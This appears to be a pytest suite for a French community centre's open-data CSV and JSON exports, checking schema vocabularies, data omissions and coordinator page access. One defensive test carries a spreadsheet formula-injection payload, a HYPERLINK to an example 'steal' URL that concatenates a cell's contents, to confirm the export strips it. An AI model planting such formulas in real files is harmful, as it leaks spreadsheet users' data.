"""The open-data files leave out what the standards would refuse and say why; the closed lists are
the standards' own; the coordinators' page shows what is published and what is missing."""
import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone

import pytest
from data_inclusion.schema import v1
from flask_babel import force_locale
from sqlalchemy import select

from tiers_lieu.accounts.models import Role
from tiers_lieu.booking.demo import demo_booking
from tiers_lieu.booking.models import Topic
from tiers_lieu.core.centre import Centre, centre_today
from tiers_lieu.demo import demo_centre, demo_staff
from tiers_lieu.extensions import db
from tiers_lieu.opendata import data_inclusion, mednum, vocabulary

from .test_opendata_files import CSV, FILES, SERVICES, STRUCTURES, frictionless_errors

FRENCH = {"title": "Données ouvertes", "missing": "Manquant ou laissé de côté", "not_france": "Ce point n'est pas en France"}


@pytest.fixture
def centre(app):
    demo_centre()
    demo_staff()
    demo_booking()
    db.session.commit()
    return db.session.execute(select(Centre)).scalar_one()


def rows_of(client):
    text = client.get(CSV).get_data(as_text=True)
    assert frictionless_errors(text) == []
    return list(csv.DictReader(io.StringIO(text)))


def report(field):
    return [gap for gap in mednum.publication_report(db.session, centre_today()) if gap.field == field]


# --- the closed lists --------------------------------------------------------------------------

def test_the_data_inclusion_lists_are_the_installed_schemas():
    assert vocabulary.values("thematiques") == tuple(theme.value for theme in v1.Thematique)
    assert vocabulary.values("thematique_categories") == tuple(category.value for category in v1.Categorie)
    assert {term.category for term in vocabulary.THEMATIQUES} == set(vocabulary.values("thematique_categories"))
    for name, enum in (("frais", v1.Frais), ("publics", v1.Public), ("types_service", v1.TypeService),
                       ("modes_accueil", v1.ModeAccueil), ("modes_mobilisation", v1.ModeMobilisation)):
        assert set(vocabulary.values(name)) == {member.value for member in enum}, name


def test_the_mednum_lists_are_the_schemas_patterns():
    from .test_opendata_files import SCHEMA

    fields = {field["name"]: field for field in json.loads(SCHEMA.read_text())["fields"]}
    lists = {
        "services": 9, "publics_specifiquement_adresses": 5, "prise_en_charge_specifique": 7, "frais_a_charge": 3,
        "dispositif_programmes_nationaux": 11, "modalites_acces": 6, "modalites_accompagnement": 4,
    }
    for name, count in lists.items():
        assert len(vocabulary.values(name)) == count, name
        pattern = fields[name]["constraints"]["pattern"]
        assert all(re.fullmatch(pattern, value) for value in vocabulary.values(name)), name
        assert re.fullmatch(pattern, "|".join(vocabulary.values(name))) and not re.fullmatch(pattern, "Autre")
    # Values copied from the standard (its own spelling, accents and parentheses included).
    assert "Langues étrangères (autres)" in vocabulary.values("prise_en_charge_specifique")
    assert "Prendre un RDV en ligne" in vocabulary.values("modalites_acces")
    assert vocabulary.DEFAULT_TYPOLOGY in vocabulary.values("typologie")


def test_choices_and_validity(app):
    assert vocabulary.is_valid("frais_a_charge", "Gratuit") and not vocabulary.is_valid("frais_a_charge", "gratuit")
    assert not vocabulary.is_valid("services", "Aide aux démarches administratives ")
    with force_locale("fr"):
        labels = dict(vocabulary.choices("modalites_acces"))
        assert str(labels["Téléphoner"]) == "Téléphoner"
        assert str(vocabulary.category_label("numerique")) == "Numérique"
    with force_locale("en"):
        assert str(dict(vocabulary.choices("modalites_acces"))["Téléphoner"]) == "Call by phone"
    assert vocabulary.in_order("frais_a_charge", ["Payant", "Nope", "Gratuit", "Payant"]) == ["Gratuit", "Payant"]


# --- what is left out --------------------------------------------------------------------------

def test_an_invalid_siret_publishes_a_valid_file_with_no_row_and_says_why(client, centre):
    centre.siret_or_rna = "12345678200011"  # the Luhn key is wrong
    db.session.commit()
    assert rows_of(client) == []
    [gap] = report("pivot")
    assert gap.required and gap.form_field == "siret_or_rna"
    assert client.get(STRUCTURES).get_json() != []  # data·inclusion needs no SIRET
    assert client.get(STRUCTURES).get_json()[0]["siret"] is None


def test_an_rna_number_is_published_as_pivot_but_not_as_siret(client, centre):
    centre.siret_or_rna = "W262000123"
    db.session.commit()
    [row] = rows_of(client)
    assert row["pivot"] == "W262000123"
    [structure] = client.get(STRUCTURES).get_json()
    assert structure["siret"] is None
    v1.Structure.model_validate(structure)


def test_a_long_summary_and_coordinates_outside_france_are_left_out_and_reported(client, centre, backend):
    # PostgreSQL's varchar(280) refuses a longer summary itself; SQLite stores what it is given.
    long_summary = backend == "sqlite"
    if long_summary:
        centre.summary = "Aide au numérique. " * 16  # 304 characters
    centre.latitude, centre.longitude = 51.5, -0.12  # London
    db.session.commit()
    [row] = rows_of(client)
    assert row["latitude"] == row["longitude"] == ""
    assert row["pivot"] and row["presentation_detail"]
    if long_summary:
        assert row["presentation_resume"] == ""
        [summary] = report("presentation_resume")
        assert not summary.required and summary.form_field == "summary"
    assert {gap.field for gap in mednum.publication_report(db.session, centre_today())} >= {"latitude", "longitude"}
    [structure] = client.get(STRUCTURES).get_json()
    assert structure["latitude"] is None and structure["longitude"] is None
    for item in client.get(SERVICES).get_json():
        assert item["latitude"] is None
        v1.Service.model_validate(item)


def test_a_postal_code_not_of_the_commune_leaves_the_commune_out_and_the_row_with_it(client, centre):
    centre.postal_code = "75001"  # Paris, with Valence's name and INSEE code
    db.session.commit()
    assert rows_of(client) == []
    gaps = {gap.field: gap for gap in mednum.publication_report(db.session, centre_today())}
    assert gaps["commune"].required and gaps["code_postal"].required and "code_insee" in gaps
    [structure] = client.get(STRUCTURES).get_json()
    assert structure["code_postal"] is None and structure["commune"] is None


def test_an_address_the_schema_would_refuse_is_left_out(client, centre):
    centre.website = "https://example.org/a|b"
    centre.acceslibre_url = "https://acceslibre.beta.gouv.fr/app/x y/"
    db.session.commit()
    [row] = rows_of(client)
    assert row["site_web"] == "" and row["fiche_acces_libre"] == ""
    assert report("site_web") and report("fiche_acces_libre")


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_left_out(client, centre):
    centre.summary = '=HYPERLINK("https://example.org/steal?"&A1, "Cliquez")'
    centre.presentation = "  @SUM(1+1)"
    db.session.commit()
    text = client.get(CSV).get_data(as_text=True)
    assert "HYPERLINK" not in text and "SUM(" not in text
    [row] = rows_of(client)
    assert row["presentation_resume"] == row["presentation_detail"] == "" and row["nom"]
    assert report("presentation_resume") and report("presentation_detail")

    centre.name = "-Maison pour tous"
    db.session.commit()
    assert rows_of(client) == []  # the name is required: no row rather than a formula
    [name] = report("nom")
    assert name.required and name.form_field == "name"


def test_values_that_left_the_standard_are_not_published(client, centre):
    centre.fees = ["Gratuit", "Adhésion"]  # "Adhésion" was a value of version 0.1
    centre.typology = ["CS", "CENTRE_SOCIAL"]
    db.session.commit()
    [row] = rows_of(client)
    assert row["frais_a_charge"] == "Gratuit" and row["typologie"] == "CS"


def test_without_a_centre_row_nothing_is_published(client, app):
    assert rows_of(client) == []
    assert client.get(STRUCTURES).get_json() == [] and client.get(SERVICES).get_json() == []
    assert any(gap.field == "id" and gap.required for gap in mednum.publication_report(db.session, centre_today()))


def test_a_topic_without_description_is_left_out_of_the_services_and_reported(client, centre):
    topic = db.session.execute(select(Topic).where(Topic.active.is_(True)).order_by(Topic.id)).scalars().first()
    topic.description_fr = ""
    topic.di_thematiques = []
    db.session.commit()
    ids = [item["id"] for item in client.get(SERVICES).get_json()]
    assert f"localhost--topic-{topic.id}" not in ids and ids
    gaps = {(gap.field, gap.topic_id) for gap in data_inclusion.services_report(db.session, centre_today())}
    assert ("description", topic.id) in gaps and ("thematiques", topic.id) in gaps


def test_inactive_topics_give_no_service(client, centre):
    topics = db.session.execute(select(Topic).order_by(Topic.id)).scalars().all()
    topics[0].active = False
    db.session.commit()
    ids = {item["id"] for item in client.get(SERVICES).get_json()}
    assert f"localhost--topic-{topics[0].id}" not in ids
    assert ids == {f"localhost--topic-{topic.id}" for topic in topics[1:] if topic.active}


def test_date_maj_and_last_modified_follow_the_latest_change(client, centre):
    first = client.get(CSV)
    [row] = list(csv.DictReader(io.StringIO(first.get_data(as_text=True))))
    assert row["date_maj"] == min(centre_today(), datetime.now(timezone.utc).date()).isoformat()
    # A change after the first download: If-Modified-Since of that download no longer answers 304.
    result = mednum.publication(db.session, centre_today())
    assert result.last_modified >= result.last_change
    centre.updated_at = result.last_change + timedelta(seconds=5)
    db.session.commit()
    again = client.get(CSV, headers={"If-Modified-Since": first.headers["Last-Modified"]})
    assert again.status_code == 200


def test_the_producer_id_comes_from_the_settings(app, centre):
    app.config["OPENDATA_PRODUCER"] = "MPT Valence (Petit Charran)"
    assert mednum.producer_id() == "mpt-valence-petit-charran"
    assert mednum.place_id() == "mpt-valence-petit-charran--centre"


# --- who reads what ----------------------------------------------------------------------------

def test_the_files_are_public_and_the_page_is_for_coordinators(client, centre, login_as):
    for url in FILES:
        assert client.get(url).status_code == 200
    assert client.get("/admin/open-data").status_code in (302, 401, 403)
    login_as(Role.FACILITATOR)
    assert client.get("/admin/open-data").status_code == 403


def test_the_coordinators_page_shows_the_addresses_and_what_is_missing(client, centre, login_as):
    centre.latitude, centre.longitude = 51.5, -0.12
    db.session.commit()
    login_as(Role.COORDINATOR)
    page = client.get("/admin/open-data?lang=fr").get_data(as_text=True)
    assert FRENCH["title"] in page and FRENCH["missing"] in page
    for url in FILES:
        assert f"http://localhost{url}" in page
    assert "Licence Ouverte" in page
    assert FRENCH["not_france"] in page and "/admin/centre#latitude" in page
    assert "Aide aux démarches administratives" in page  # the published services, in French
    english = client.get("/admin/open-data?lang=en").get_data(as_text=True)
    assert "Open data" in english and "Help with administrative procedures" in english
    assert 'href="/admin/open-data"' in client.get("/admin/?lang=en").get_data(as_text=True)
